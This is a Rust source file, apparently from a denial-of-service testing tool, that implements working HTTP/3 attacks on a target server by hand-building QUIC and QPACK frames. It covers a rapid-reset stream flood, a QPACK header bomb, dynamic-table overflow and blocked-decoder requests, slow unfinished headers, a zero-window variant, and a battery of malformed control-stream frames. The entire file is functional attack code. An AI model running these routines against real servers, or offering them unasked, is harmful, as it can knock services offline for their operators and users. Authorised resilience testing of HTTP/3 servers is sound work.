//! Requests over HTTP/3 (RFC 9114) with field sections by hand (RFC 9204).

use std::io;
use std::time::Instant;

use super::QuicAttack;
use super::client::{QuicClient, sound_parameters, windowless_parameters};
use super::packet::varint;
use crate::attack::{Outcome, now};
use crate::client::Target;

/// Request streams that are open at once: as many as servers allow.
const STREAMS: u64 = 100;
/// Of requests whose heads or answers are large: together below what a server takes in ahead.
const LARGE_STREAMS: u64 = 4;
/// Of waiting for what comes, 50 ms each or more.
const ROUNDS_BEFORE_REPEAT: u32 = 60;
/// Of one packet.
const PIECE_BYTES: usize = 1100;
/// Requests that are begun and given up, far more than a server bears.
const RESETS: u64 = 20_000;
const HEADERS: u8 = 1;
/// `:method: HEAD`, 18 of RFC 9204's table.
const HEAD: u8 = 0xd2;
/// RFC 9114 section 8.1.
const REQUEST_CANCELLED: u64 = 0x10c;

pub(super) fn rapid_reset(target: &Target, until: Instant) -> io::Result<Outcome> {
    let mut client = QuicClient::connect(target)?;
    open_control_stream(&mut client, &[4, 0]);
    let head = get(&target.host);
    let mut requests = 0;
    while !client.closed && requests < RESETS && now() < until {
        client.send_frames(&begun_and_reset(requests, &head));
        requests += 1;
        while requests >= client.streams_allowed && !client.closed && now() < until {
            client.receive();
            // What was lost on the way keeps its stream open.
            let newest = requests.saturating_sub(STREAMS)..requests;
            if requests >= client.streams_allowed {
                newest.for_each(|number| client.send_frames(&begun_and_reset(number, &head)));
            }
        }
    }
    while !client.closed && now() < until {
        client.send_frames(&[1]);
        client.receive();
    }
    Ok(Outcome { requests, ended: client.closed })
}

/// STREAM, RESET_STREAM and STOP_SENDING.
fn begun_and_reset(number: u64, head: &[u8]) -> Vec<u8> {
    let (id, code, size) = (varint(4 * number), varint(REQUEST_CANCELLED), varint(head.len() as u64));
    let reset = [&[4][..], &id, &code, &size, &[5], &id, &code].concat();
    [stream(4 * number, 0, head), reset].concat()
}

pub(super) fn run(attack: QuicAttack, target: &Target, until: Instant) -> io::Result<Outcome> {
    let parameters = if attack == QuicAttack::ZeroWindow { windowless_parameters } else { sound_parameters };
    let mut client = QuicClient::connect_with(target, parameters)?;
    open_control_stream(&mut client, &[4, 0]);
    if attack == QuicAttack::QpackInserts {
        send(&mut client, 6, &inserts(), End::Open);
    }
    let are_large = matches!(attack, QuicAttack::QpackBomb | QuicAttack::QpackInserts);
    let streams = if are_large { LARGE_STREAMS } else { STREAMS };
    let head = head(attack, &target.host);
    let end = if attack == QuicAttack::SlowHeads { End::Open } else { End::Whole };
    for number in 0..streams {
        send(&mut client, 4 * number, &head, end);
    }
    let mut unanswered: Vec<u64> = (0..streams).map(|number| 4 * number).collect();
    for round in 1.. {
        client.receive();
        unanswered.retain(|id| !client.answered.contains(id));
        if client.closed || unanswered.is_empty() || now() > until {
            break;
        }
        // Datagrams are lost where many attack at once.
        if round % ROUNDS_BEFORE_REPEAT == 0 {
            unanswered.iter().for_each(|id| send(&mut client, *id, &head, end));
        }
        client.send_frames(&[1]);
    }
    Ok(Outcome { requests: streams, ended: client.closed || unanswered.is_empty() })
}

/// The beginning of a request's stream.
#[expect(clippy::wildcard_enum_match_arm, reason = "about some of the attacks")]
fn head(attack: QuicAttack, host: &str) -> Vec<u8> {
    /// `content-security-policy` with a value, 99 of RFC 9204's table of 99: 84 bytes and 32 for what a field costs.
    const LARGE_FIELD: [u8; 2] = [0xff, 85 - 63];
    match attack {
        QuicAttack::QpackBomb => section(&[fields(host), LARGE_FIELD.repeat(30_000)].concat()),
        // Required Insert Count 1, then the dynamic table's first entry.
        QuicAttack::QpackBlocked => framed(&[&[2, 0], &fields(host)[..], &[0x80]].concat()),
        QuicAttack::SlowHeads => get(host)[..8].to_vec(),
        // Of which there is no answer's body to hold.
        QuicAttack::QpackInserts => section(&[&[HEAD][..], &fields(host)[1..]].concat()),
        _ => get(host),
    }
}

/// An encoder's stream: a table of 4 KiB, then entries far beyond it.
fn inserts() -> Vec<u8> {
    let entry = [&[0x41, b'x', 0x40][..], &[b'y'; 64]].concat();
    [&[2, 0x3f, 0xe1, 0x1f][..], &entry.repeat(1000)].concat()
}

/// Each on a connection of its own.
pub(super) fn control_streams(target: &Target, until: Instant) -> io::Result<Outcome> {
    let faults: [&[u8]; 6] = [
        // SETTINGS twice; none; a setting of HTTP/2; DATA; HEADERS; a frame of HTTP/2.
        &[4, 0, 4, 0],
        &[7, 1, 0],
        &[4, 2, 4, 1],
        &[4, 0, 0, 1, b'x'],
        &[4, 0, HEADERS, 1, b'x'],
        &[4, 0, 6, 1, b'x'],
    ];
    let mut faults: Vec<_> = faults.map(|fault| stream(2, 0, &[&[0], fault].concat())).to_vec();
    // A second one, and one that ends.
    faults.push([stream(2, 0, &[0, 4, 0]), stream(6, 0, &[0, 4, 0])].concat());
    faults.push([&[0x0b, 2, 3], &[0, 4, 0][..]].concat());
    for fault in faults {
        let mut client = QuicClient::connect(target)?;
        while !client.closed && now() < until {
            client.send_frames(&fault);
            client.receive();
        }
        if !client.closed {
            return Ok(Outcome { requests: 0, ended: false });
        }
    }
    Ok(Outcome { requests: 0, ended: true })
}

/// The client's first unidirectional stream.
fn open_control_stream(client: &mut QuicClient, frames: &[u8]) {
    client.send_frames(&stream(2, 0, &[&[0], frames].concat()));
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum End {
    Open,
    Whole,
}

/// A stream's bytes, in as many packets as it takes.
fn send(client: &mut QuicClient, id: u64, bytes: &[u8], end: End) {
    for (number, piece) in bytes.chunks(PIECE_BYTES).enumerate() {
        let mut frame = stream(id, (number * PIECE_BYTES) as u64, piece);
        if end == End::Whole && (number + 1) * PIECE_BYTES >= bytes.len() {
            frame[0] |= 1; // FIN
        }
        client.send_frames(&frame);
    }
}

/// A STREAM frame in the middle of a stream.
fn stream(id: u64, at: u64, bytes: &[u8]) -> Vec<u8> {
    [&[0x0e][..], &varint(id), &varint(at), &varint(bytes.len() as u64), bytes].concat()
}

/// A whole request's head.
fn get(host: &str) -> Vec<u8> {
    section(&fields(host))
}

/// By the static table: GET, https, `/`; a literal `:authority`.
fn fields(host: &str) -> Vec<u8> {
    let length = u8::try_from(host.len()).unwrap_or(0);
    [&[0xd1, 0xd7, 0xc1, 0x50, length][..], host.as_bytes()].concat()
}

/// Without a dynamic table.
fn section(fields: &[u8]) -> Vec<u8> {
    framed(&[&[0, 0], fields].concat())
}

fn framed(section: &[u8]) -> Vec<u8> {
    [vec![HEADERS], varint(section.len() as u64), section.to_vec()].concat()
}
